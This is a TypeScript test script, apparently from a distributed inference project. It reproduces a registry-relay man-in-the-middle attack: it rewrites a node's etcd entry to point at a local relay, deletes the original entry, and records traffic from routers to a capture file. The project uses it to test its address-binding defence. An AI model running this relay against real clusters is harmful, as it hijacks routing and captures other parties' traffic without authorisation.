/**
 * The relay attack of issue #31, as a process: someone who can write to etcd but holds no cluster
 * secret copies a node's registry entry under its own address, deletes the real entry, and relays
 * TCP both ways, unchanged, between whoever dials it (a router) and the real node, keeping what
 * passes. Before the address binding (src/transfer/link-address.ts) the router admitted the node
 * at the relay's address, and on plaintext links the relay read prompts' token ids.
 *
 *   node dist/testing/registry-relay.js ETCD_ENDPOINT PREFIX ROLE ADDRESS CAPTURE_FILE
 *
 * ADDRESS is the real node's (its entry is `PREFIX/nodes/ROLE/ADDRESS`). Prints `relay at
 * 127.0.0.1:PORT` once the copied entry is in place and the real one gone, then
 * `connection N opened` and `connection N closed: U bytes up, D bytes down` per connection. The
 * bytes the dialler sent (up) are appended to CAPTURE_FILE. Runs until killed.
 */
import { appendFileSync, writeFileSync } from "node:fs";
import net from "node:net";
import { Etcd3 } from "etcd3";

const [endpoint, prefix, role, address, capture] = process.argv.slice(2);
if (capture === undefined) {
  process.stderr.write("usage: registry-relay ETCD_ENDPOINT PREFIX ROLE ADDRESS CAPTURE_FILE\n");
  process.exit(2);
}
const [, host, port] = /^(.+):(\d+)$/.exec(address!)!;
writeFileSync(capture, "");

let next = 0;
const server = net.createServer((client) => {
  const id = next++;
  let up = 0;
  let down = 0;
  process.stdout.write(`connection ${id} opened\n`);
  const node = net.connect({ host: host!, port: Number(port) });
  for (const s of [client, node]) s.on("error", () => {});
  client.on("data", (chunk: Buffer) => {
    up += chunk.length;
    appendFileSync(capture, chunk);
    node.write(chunk);
  });
  node.on("data", (chunk: Buffer) => {
    down += chunk.length;
    client.write(chunk);
  });
  let closed = false;
  const close = (): void => {
    client.destroy();
    node.destroy();
    if (closed) return;
    closed = true;
    process.stdout.write(`connection ${id} closed: ${up} bytes up, ${down} bytes down\n`);
  };
  client.on("close", close);
  node.on("close", close);
});
await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
const relayAddress = `127.0.0.1:${(server.address() as net.AddressInfo).port}`;

const etcd = new Etcd3({ hosts: [endpoint!] });
const key = (a: string) => `${prefix}/nodes/${role}/${a}`;
let entry: string | null = null;
for (let i = 0; i < 200 && entry === null; i++) {
  entry = await etcd.get(key(address!)).string();
  if (entry === null) await new Promise((r) => setTimeout(r, 50));
}
if (entry === null) {
  process.stderr.write(`no registry entry ${key(address!)}\n`);
  process.exit(1);
}
// The node's own entry, word for word, but for the address routers dial.
await etcd.put(key(relayAddress)).value(JSON.stringify({ ...JSON.parse(entry), address: relayAddress }));
await etcd.delete().key(key(address!)).exec();
etcd.close();
process.stdout.write(`relay at ${relayAddress}\n`);
